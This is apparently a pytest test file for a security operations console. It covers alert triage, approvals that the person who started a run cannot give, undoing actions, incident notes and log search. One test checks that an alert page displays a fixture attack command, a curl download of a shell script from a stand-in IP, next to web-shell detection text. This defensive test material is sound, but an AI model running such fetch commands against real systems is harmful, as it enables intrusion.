"""What people do in the console, from the queue to the undo, without any script."""

import re

import pytest
from sqlalchemy import insert, select

from sentinel.database.tables import runs
from sentinel.model.alert import AlertState
from sentinel.model.moment import now, to_text
from sentinel.model.principal import Role
from sentinel.model.run import EffectState, RunState
from tests.web.browser import Browsers
from tests.web.world import CITY, OURS, World

SCOPE = frozenset({OURS})


def test_the_queue_is_ranked_and_filtered(world: World, readers: Browsers) -> None:
    browser = readers.of(world.people[Role.OPERATOR, OURS])
    rows = re.findall(r'class="edge (\w+)"', browser.get("/alerts").text)
    assert rows == ["critical", "high", "medium", "low", "informational"]
    assert re.findall(r'class="edge (\w+)"', browser.get("/alerts?level=high&level=low").text) == ["high", "low"]
    assert re.findall(r'class="edge (\w+)"', browser.get("/alerts?text=SSH").text) == ["high"]
    assert "Không có cảnh báo nào phù hợp bộ lọc" in browser.get("/alerts?text=zzz").text
    assert browser.get("/alerts?level=worst").status_code == 400
    assert browser.get("/alerts?page=0").status_code == 400
    assert browser.get("/alerts?page=9").status_code == 200


def test_an_alert_shows_what_why_and_what_happened_around_it(world: World, readers: Browsers) -> None:
    things = world.things[OURS]
    page = readers.of(world.people[Role.OPERATOR, OURS]).get(f"/alerts/{things.alert}").text
    assert "ParentImage|endswith: nginx" in page
    assert "giống như một web shell" in page
    assert f"curl http://203.0.113.9/{things.mark}.sh" in page
    assert page.index("systemd") < page.index("php-fpm: pool www")
    assert "/ho-so/tai-len" in page
    assert f"/incidents/{things.incident}" in page
    assert "process.hash.sha256" in page


def test_an_alert_is_acknowledged_closed_and_opened_again(fresh: World, actors: Browsers) -> None:
    browser = actors.of(fresh.people[Role.OPERATOR, OURS])
    path = f"/alerts/{fresh.things[OURS].alert}"
    answer = browser.send(f"{path}/state", {"state": "acknowledged", "back": "/alerts?state=open&text=shell"})
    assert answer.headers["location"] == "/alerts?state=open&text=shell&done=acknowledged"
    assert "Cảnh báo đã được tiếp nhận." in browser.get(answer.headers["location"]).text
    assert browser.send(f"{path}/state", {"state": "closed"}).status_code == 400
    closed = {"state": "closed", "reason": "false_positive", "note": "diễn tập"}
    assert browser.send(f"{path}/state", closed).headers["location"] == f"{path}?done=closed"
    assert "Cảnh báo sai" in browser.get(path).text
    assert browser.send(f"{path}/state", closed).status_code == 409
    browser.send(f"{path}/state", {"state": "new"})
    found = fresh.services.alerts.get(SCOPE, fresh.things[OURS].alert)
    assert found is not None
    assert found.state is AlertState.NEW
    assert "alert.closed" in actors.of(fresh.people[Role.ADMINISTRATOR, OURS]).get("/audit").text


def test_the_api_changes_an_alert_as_the_page_does(fresh: World, actors: Browsers) -> None:
    browser = actors.of(fresh.people[Role.OPERATOR, OURS])
    answer = browser.call(f"/api/v1/alerts/{fresh.things[OURS].alert}/state", {"state": "acknowledged"})
    assert answer.json()["state"] == "acknowledged"
    assert answer.json()["event"]["process"]["parent"]["name"] == "php-fpm8.2"
    assert browser.get("/api/v1/alerts?state=acknowledged").json()["total"] == 1
    assert browser.get("/api/v1/alerts").json()["counts"] == {"new": 4, "acknowledged": 1, "closed": 0}


def test_a_step_is_approved_with_a_note_by_who_may(fresh: World, actors: Browsers) -> None:
    things = fresh.things[OURS]
    page = f"/incidents/{things.incident}"
    path = f"{page}/approvals/{things.approval}"
    operator = actors.of(fresh.people[Role.OPERATOR, OURS])
    assert "Vai trò của bạn không được trả lời" in operator.get(page).text
    assert operator.send(path, {"approved": "true"}).status_code == 403
    responder = actors.of(fresh.people[Role.RESPONDER, OURS])
    assert responder.send(path, {"approved": "perhaps"}).status_code == 400
    answer = responder.send(path, {"approved": "true", "note": "đã xem tệp"})
    assert answer.headers["location"] == f"{page}?done=approved"
    assert fresh.services.wake_runs.is_set()
    assert responder.send(path, {"approved": "false"}).status_code == 409
    fresh.services.runs.work(now())
    assert "đã xem tệp" in responder.get(page).text


def test_who_started_a_run_is_told_that_somebody_else_must_approve(fresh: World, actors: Browsers) -> None:
    things, runs = fresh.things[OURS], fresh.services.runs
    responder = actors.of(fresh.people[Role.RESPONDER, OURS])
    known = runs.get(SCOPE, things.run)
    assert known is not None
    runs.cancel(fresh.people[Role.ADMINISTRATOR, CITY], things.run, "lại từ đầu")
    start = {"playbook": "web-shell", "incident": things.incident, "inputs": dict(known.inputs)}
    run_id = responder.call("/api/v1/runs", start).json()["run"]
    runs.work(now())
    assert "người khác phải duyệt" in responder.get(f"/incidents/{things.incident}").text
    question = next(question for question, run in runs.waiting(SCOPE) if run.id == run_id)
    path = f"/api/v1/approvals/{question.id}/decision"
    answer = responder.call(path, {"approved": True})
    assert (answer.status_code, "you started this run" in answer.json()["error"]) == (403, True)
    page = responder.send(f"/incidents/{things.incident}/approvals/{question.id}", {"approved": "true"})
    assert (page.status_code, "người khác phải duyệt" in page.text) == (403, True)
    other = actors.of(fresh.people[Role.ADMINISTRATOR, CITY])
    assert "người khác phải duyệt" not in other.get(f"/incidents/{things.incident}").text
    assert other.call(path, {"approved": True}).json()["decision"] == "approved"


def test_a_refusal_ends_the_run(fresh: World, actors: Browsers) -> None:
    things = fresh.things[OURS]
    responder = actors.of(fresh.people[Role.RESPONDER, OURS])
    answer = responder.call(f"/api/v1/approvals/{things.approval}/decision", {"approved": False, "note": "máy thử"})
    assert answer.json()["decision"] == "refused"
    fresh.services.runs.work(now())
    run = fresh.services.runs.get(SCOPE, things.run)
    assert run is not None
    assert run.state in (RunState.DONE, RunState.CANCELLED, RunState.FAILED)
    assert "Bị từ chối" in responder.get(f"/incidents/{things.incident}").text


@pytest.mark.parametrize("way", ["page", "api"])
def test_an_effect_is_undone_however_many_runs_came_after_it(fresh: World, actors: Browsers, way: str) -> None:
    things = fresh.things[OURS]
    with fresh.engine.begin() as connection:
        row = connection.execute(select(runs).where(runs.c.id == things.run)).mappings().one()
        later = {"started_at": to_text(now()), "state": "done", "wake_at": None}
        connection.execute(insert(runs), [{**row, **later, "id": f"later-{number}"} for number in range(500)])
    responder = actors.of(fresh.people[Role.RESPONDER, OURS])
    if way == "page":
        path = f"/incidents/{things.incident}/effects/{things.effect}/undo"
        assert responder.send(path, {"why": "nhầm địa chỉ"}).status_code == 303
    else:
        assert responder.call(f"/api/v1/effects/{things.effect}/undo", {"why": "nhầm địa chỉ"}).status_code == 200


def test_an_effect_is_undone_by_hand(fresh: World, actors: Browsers) -> None:
    things = fresh.things[OURS]
    responder = actors.of(fresh.people[Role.RESPONDER, OURS])
    assert "Tự hoàn tác lúc" in responder.get(f"/incidents/{things.incident}").text
    path = f"/incidents/{things.incident}/effects/{things.effect}/undo"
    assert responder.send(path, {"why": "nhầm địa chỉ"}).headers["location"].endswith("done=undoing")
    fresh.services.runs.work(now())
    verbs = fresh.services.commands.pending(things.collector, now())
    assert len(verbs) == 1
    run = fresh.services.runs.get(SCOPE, things.run)
    assert run is not None
    assert run.effects[0].state is EffectState.VERIFIED, "ordered is not done"


def test_an_incident_is_noted_and_closed(fresh: World, actors: Browsers) -> None:
    browser = actors.of(fresh.people[Role.OPERATOR, OURS])
    path = f"/incidents/{fresh.things[OURS].incident}"
    browser.send(f"{path}/notes", {"text": "<b>đã gọi</b> đơn vị"})
    assert "&lt;b&gt;đã gọi&lt;/b&gt; đơn vị" in browser.get(path).text
    assert browser.send(f"{path}/notes", {"text": " "}).status_code == 400
    assert browser.send(f"{path}/close", {"note": "xong", "reason": "resolved"}).status_code == 303
    assert "Sự cố đã đóng (Đã xử lý)" in browser.get(path).text
    assert f'"{path}"' not in browser.get("/incidents").text
    assert f'"{path}"' in browser.get("/incidents?state=closed").text


def test_a_run_is_cancelled_and_a_collector_revoked_by_those_who_may(fresh: World, actors: Browsers) -> None:
    things = fresh.things[OURS]
    responder = actors.of(fresh.people[Role.RESPONDER, OURS])
    path = f"/incidents/{things.incident}/runs/{things.run}/cancel"
    assert responder.send(path, {"why": "sai kịch bản"}).status_code == 303
    admin = actors.of(fresh.people[Role.ADMINISTRATOR, OURS])
    assert admin.send(f"/collectors/{things.collector}/revoke", {"why": "mất máy"}).status_code == 303
    assert "Đã thu hồi" in admin.get("/collectors").text


def test_search_finds_narrows_and_notes_who_looked(fresh: World, actors: Browsers) -> None:
    browser = actors.of(fresh.people[Role.ADMINISTRATOR, OURS])
    page = browser.get("/search", params={"q": "event.outcome:failure", "range": "1h"}).text
    assert page.count("Failed password for") >= 5
    assert 'class="bars"' in page
    assert "Dạng bảng" in page
    narrow = {"q": "*", "range": "custom", "from": "2020-01-01T00:00:00", "to": "2020-01-02T00:00:00"}
    assert "Không có sự kiện nào phù hợp." in browser.get("/search", params=narrow).text
    assert browser.get("/search?range=custom&from=yesterday").status_code == 400
    found = browser.get("/api/v1/search", params={"q": "event.outcome:failure", "buckets": 10}).json()
    assert found["total"] == 5
    assert found["events"][0]["event"]["outcome"] == "failure"
    assert sum(bucket["count"] for bucket in found["histogram"]) == 5
    assert browser.get("/api/v1/search?from=2026-11-23").status_code == 400
    assert "event.outcome:failure" in browser.get("/audit").text


def test_health_says_only_that_it_is_well(readers: Browsers) -> None:
    assert readers.stranger().get("/healthz").json() == {"status": "ok"}
